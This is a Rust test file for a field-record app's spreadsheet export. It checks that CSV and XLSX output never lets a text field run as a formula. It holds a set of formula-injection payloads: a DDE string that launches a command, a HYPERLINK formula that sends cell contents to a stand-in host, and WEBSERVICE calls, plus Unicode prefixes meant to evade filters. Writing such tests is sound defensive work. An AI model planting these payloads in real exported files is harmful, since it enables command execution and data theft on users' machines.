//! Formulas in every text of a record: in no spreadsheet does one run, whichever separator it expects.

use std::io::{Cursor, Read};

use streetbook_core::kind::{FieldType, KindSet};
use streetbook_core::record::{Conflict, Side};

use super::super::{Format, Headings, export};
use crate::store::view::tests::{annulled, opened, shown, text};
use crate::store::view::{Batch, Books};

/// Beginnings of a formula, with prefixes that people and attackers use.
const BEGINNINGS: [&str; 14] = [
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\t=",
    "\r\n=",
    "\u{3000}=",
    "\u{200b}=",
    "\"=",
];

/// Prefixes inside the text after which a program may begin a cell.
const BEFORE: [&str; 6] = ["", "a;", "a\t", "a\n", "a|", "a;\""];

const BODIES: [&str; 5] = [
    "1+1",
    "HYPERLINK(\"http://x.test/?\"&A1,\"看\")",
    "cmd|' /C calc'!A0",
    "WEBSERVICE(\"http://x.test\")",
    "SUM(1,1)*IMPORTXML(\"x\",\"y\")",
];

fn payloads() -> Vec<String> {
    let payloads: Vec<String> = BEFORE
        .iter()
        .flat_map(|before| BEGINNINGS.map(|beginning| format!("{before}{beginning}")))
        .flat_map(|start| BODIES.map(|body| format!("{start}{body}")))
        .collect();
    assert!(payloads.len() >= 60, "{} payloads", payloads.len());
    payloads
}

/// A file with a record for each payload, which fills its every text, its conflict and its annulment.
async fn exported(kind: &str, format: Format, payloads: &[String]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let view = opened(dir.path()).await;
    let id = kind.parse().unwrap();
    let form = KindSet::built_in().latest(&id).unwrap().clone();
    let records = payloads.iter().enumerate().map(|(n, payload)| {
        let is_text = |field: &&streetbook_core::kind::Field| field.field_type == FieldType::Text;
        let fields: Vec<_> = form
            .fields
            .iter()
            .filter(is_text)
            .map(|field| (field.id.as_str(), text(payload)))
            .collect();
        let mut record = shown(kind, 1, &fields);
        record.origin.creator.n = 1 + n as u64;
        let side = Side {
            value: text(payload),
            by: record.author.clone(),
            device: record.origin.creator.device,
            at: record.captured_at,
        };
        record.conflicts = vec![Conflict {
            field: fields[0].0.to_owned(),
            values: vec![side.clone(), side],
        }];
        annulled(record, payload)
    });
    let batch = Batch {
        through: 1,
        records: records.collect(),
        ..Batch::default()
    };
    view.apply(batch).await.unwrap();
    let mut out = Vec::new();
    let rows = export(&view, &id, &Books::All, format, &mut out).await;
    assert_eq!(rows.unwrap(), payloads.len() as u64);
    out
}

const KINDS: [&str; 3] = ["street_contact", "store", "work_log"];

/// Returns true for a cell in which a spreadsheet would see a formula; a list item's dash and a negative number
/// are none.
fn runs(cell: &str) -> bool {
    let invisible = |letter: char| {
        letter.is_whitespace() || letter.is_control() || "\"\u{200b}\u{feff}".contains(letter)
    };
    let seen = cell.trim_start_matches(invisible);
    seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && seen.parse::<f64>().is_err()
}

#[tokio::test]
async fn no_formula_runs_in_csv_whichever_separator_the_reader_expects() {
    let payloads = payloads();
    for kind in KINDS {
        let bytes = exported(kind, Format::Csv, &payloads).await;
        for separator in [b',', b';', b'\t', b'|'] {
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(separator)
                .flexible(true)
                .from_reader(bytes.as_slice());
            let mut cells = 0;
            for line in reader.records().map(Result::unwrap) {
                cells += line.len();
                for cell in &line {
                    assert!(!runs(cell), "{kind}, {:?}: {cell:?}", separator as char);
                }
            }
            assert!(cells >= payloads.len(), "{cells} cells");
        }
        let lines = String::from_utf8(bytes).unwrap();
        for cell in lines.split(['\n', '\r', ';', '\t', '|', ',']) {
            assert!(
                !runs(cell),
                "{kind}, cut without regard to quotes: {cell:?}"
            );
        }
    }
}

#[tokio::test]
async fn no_cell_of_a_workbook_is_a_formula_and_every_payload_is_in_it() {
    let payloads = payloads();
    for kind in KINDS {
        let bytes = exported(kind, Format::Xlsx(Headings::Both), &payloads).await;
        let mut files = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
        let mut sheet = String::new();
        let mut file = files.by_name("xl/worksheets/sheet1.xml").unwrap();
        file.read_to_string(&mut sheet).unwrap();
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{kind}");
        assert!(!sheet.contains("t=\"str\""), "{kind}: a formula's result");
        let strings = sheet.matches("inlineStr").count();
        assert!(strings >= payloads.len() * 3, "{kind}: {strings} texts");
        assert!(sheet.contains("cmd|'"), "{kind}");
    }
}

#[test]
fn what_people_write_reads_as_they_wrote_it() {
    let csv_escape = super::super::csv_escape::csv_escape;
    for plain in [
        "万达北门",
        "a - b",
        "1. 海报\n- 名片\n- 手册",
        "A=B",
        "5+1 房",
        "a; b",
        "",
    ] {
        assert_eq!(csv_escape(plain), plain);
    }
    assert_eq!(csv_escape("-2"), "'-2");
    assert_eq!(csv_escape("- 名片"), "'- 名片");
    assert_eq!(csv_escape("早;=1+1"), "早;'=1+1");
    assert_eq!(csv_escape("\t=1"), "'\t'=1");
}
